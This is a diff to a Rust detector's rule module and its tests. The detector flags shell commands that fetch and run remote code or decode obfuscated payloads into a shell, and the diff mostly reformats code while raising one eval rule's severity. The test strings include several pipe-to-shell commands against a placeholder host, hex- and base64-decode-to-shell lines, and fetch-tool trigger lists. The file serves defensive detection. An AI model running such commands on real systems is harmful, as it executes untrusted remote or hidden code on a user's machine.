@@ -12,16 +12,8 @@ use std::sync::LazyLock;
 use super::rule::{FETCH, Hit, Lazy, Rule, compile, pipe_into_shell, pipes_into_shell};
 use super::{Category, Severity};
 
-const FETCH_TRIGGERS: &[&str] = &[
-    "curl",
-    "wget",
-    "fetch",
-    "aria2c",
-    "iwr",
-    "irm",
-    "invoke-webrequest",
-    "invoke-restmethod",
-];
+const FETCH_TRIGGERS: &[&str] =
+    &["curl", "wget", "fetch", "aria2c", "iwr", "irm", "invoke-webrequest", "invoke-restmethod"];
 
 const DECODERS: &str = r#"(?:\bbase(?:64|32)\s+(?:-\S+\s+)*(?:-d|--decode)\b|\bxxd\s+(?:-\S+\s+)*-r|\bopenssl\s+(?:enc\s+|base64\s+)?(?:-\S+\s+)*-d\b|\bprintf\s+["']?(?:\\x[0-9a-f]{2}|\\[0-7]{3})|\bgunzip\b|\bzcat\b|\buudecode\b|\btr\s+\S+\s+["']?n-za-m)"#;
 
@@ -112,29 +104,24 @@ pub(super) fn rules() -> Vec<Rule> {
             r"\b(?:start-process|saps|powershell(?:\.exe)?|pwsh)\b[^\n]*\s-w(?:indowstyle)?\s+hidden\b",
         )
         .requires(&["hidden"]),
-        // The reference flags every `eval $`. Shell init hooks
-        // (`eval "$(ssh-agent -s)"`) are everywhere in setup docs, so only
-        // unknown sources are Medium; fetched code is `exec.run-fetched`.
-        Rule::new("exec.eval-variable", C, Medium, &["eval"], r#"\beval\s+["']?(?:\$|`)"#)
+        // The reference flags every `eval $` (one of its ten rules, which
+        // SPEC §7.7.3 requires us to refuse). Shell init hooks
+        // (`eval "$(ssh-agent -s)"`) are everywhere in setup docs, so those
+        // are Low; evaluating anything else from a variable is High.
+        Rule::new("exec.eval-variable", C, High, &["eval"], r#"\beval\s+["']?(?:\$|`)"#)
             .requires(&["$", "`"])
             .assess(eval_variable),
     ]
 }
 
 static EXEC_CONTEXT: Lazy = LazyLock::new(|| {
-    compile(
-        r"\$'\\x|\b(?:eval|exec|system|popen|spawn|bash|sh\s+-c|python[0-9.]*\s+-c|perl\s+-e|iex)\b",
-    )
+    compile(r"\$'\\x|\b(?:eval|exec|system|popen|spawn|bash|sh\s+-c|python[0-9.]*\s+-c|perl\s+-e|iex)\b")
 });
 
 /// Long runs of escaped bytes spell out what a reader should not see; run
 /// by something that executes them, they are a hidden command.
 fn hex_escapes(h: &Hit<'_>) -> Option<Severity> {
-    Some(if EXEC_CONTEXT.is_match(h.line().as_bytes()) {
-        Severity::High
-    } else {
-        h.base
-    })
+    Some(if EXEC_CONTEXT.is_match(h.line().as_bytes()) { Severity::High } else { h.base })
 }
 
 static SHELL_INIT: Lazy = LazyLock::new(|| {
@@ -144,11 +131,7 @@ static SHELL_INIT: Lazy = LazyLock::new(|| {
 });
 
 fn eval_variable(h: &Hit<'_>) -> Option<Severity> {
-    Some(if SHELL_INIT.is_match(h.tail().as_bytes()) {
-        Severity::Low
-    } else {
-        h.base
-    })
+    Some(if SHELL_INIT.is_match(h.tail().as_bytes()) { Severity::Low } else { h.base })
 }
 
 #[cfg(test)]
@@ -179,13 +162,7 @@ mod tests {
             Critical,
             1,
         );
-        assert_hit(
-            "curl -fsSL \"$U\" | $SHELL",
-            "exec.pipe-to-shell",
-            CodeInjection,
-            Critical,
-            1,
-        );
+        assert_hit("curl -fsSL \"$U\" | $SHELL", "exec.pipe-to-shell", CodeInjection, Critical, 1);
         assert_hit(
             "iwr -useb https://x.example/s.ps1 | iex",
             "exec.pipe-to-shell",
@@ -220,11 +197,7 @@ mod tests {
             "exec.pipe-to-shell",
             Low,
         );
-        assert_severity(
-            "# Don't: curl https://x.example/i.sh | sh",
-            "exec.pipe-to-shell",
-            Low,
-        );
+        assert_severity("# Don't: curl https://x.example/i.sh | sh", "exec.pipe-to-shell", Low);
         // A warning in another clause does not excuse the command.
         assert_severity(
             "Do not skip this step: curl https://x.example/i.sh | sh",
@@ -242,13 +215,7 @@ mod tests {
 
     #[test]
     fn flags_shell_running_fetched_code() {
-        assert_hit(
-            "bash <(curl -s https://x.example/get)",
-            "exec.run-fetched",
-            CodeInjection,
-            Critical,
-            1,
-        );
+        assert_hit("bash <(curl -s https://x.example/get)", "exec.run-fetched", CodeInjection, Critical, 1);
         assert_hit(
             "sh -c \"$(curl -fsSL https://x.example/install.sh)\"",
             "exec.run-fetched",
@@ -281,13 +248,7 @@ mod tests {
             Critical,
             1,
         );
-        assert_hit(
-            "echo 6375726c | xxd -r -p | sh",
-            "obfuscation.decode-to-shell",
-            Obfuscation,
-            Critical,
-            1,
-        );
+        assert_hit("echo 6375726c | xxd -r -p | sh", "obfuscation.decode-to-shell", Obfuscation, Critical, 1);
         assert_hit(
             "printf '\\x63\\x75\\x72\\x6c' | sh",
             "obfuscation.decode-to-shell",
@@ -320,13 +281,7 @@ mod tests {
             Critical,
             1,
         );
-        assert_hit(
-            "eval(atob('Y29uc29sZQ=='))",
-            "obfuscation.eval-decoded",
-            Obfuscation,
-            Critical,
-            1,
-        );
+        assert_hit("eval(atob('Y29uc29sZQ=='))", "obfuscation.eval-decoded", Obfuscation, Critical, 1);
     }
 
     #[test]
@@ -343,16 +298,8 @@ mod tests {
 
     #[test]
     fn grades_hex_escape_runs_by_context() {
-        assert_severity(
-            "s = '\\x41\\x42\\x43\\x44\\x45\\x46\\x47\\x48'",
-            "obfuscation.hex-escapes",
-            Medium,
-        );
-        assert_severity(
-            "exec('\\x41\\x42\\x43\\x44\\x45\\x46\\x47\\x48')",
-            "obfuscation.hex-escapes",
-            High,
-        );
+        assert_severity("s = '\\x41\\x42\\x43\\x44\\x45\\x46\\x47\\x48'", "obfuscation.hex-escapes", Medium);
+        assert_severity("exec('\\x41\\x42\\x43\\x44\\x45\\x46\\x47\\x48')", "obfuscation.hex-escapes", High);
     }
 
     #[test]
@@ -371,21 +318,14 @@ mod tests {
             High,
             1,
         );
-        assert_absent(
-            "python3 -c 'import json,sys; print(json.load(sys.stdin))'",
-            "exec.inline-interpreter",
-        );
+        assert_absent("python3 -c 'import json,sys; print(json.load(sys.stdin))'", "exec.inline-interpreter");
     }
 
     #[test]
     fn grades_eval_of_variables() {
-        assert_severity("eval $CMD", "exec.eval-variable", Medium);
+        assert_severity("eval $CMD", "exec.eval-variable", High);
         assert_severity("eval \"$(ssh-agent -s)\"", "exec.eval-variable", Low);
-        assert_severity(
-            "eval \"$(/opt/homebrew/bin/brew shellenv)\"",
-            "exec.eval-variable",
-            Low,
-        );
+        assert_severity("eval \"$(/opt/homebrew/bin/brew shellenv)\"", "exec.eval-variable", Low);
     }
 
     #[test]
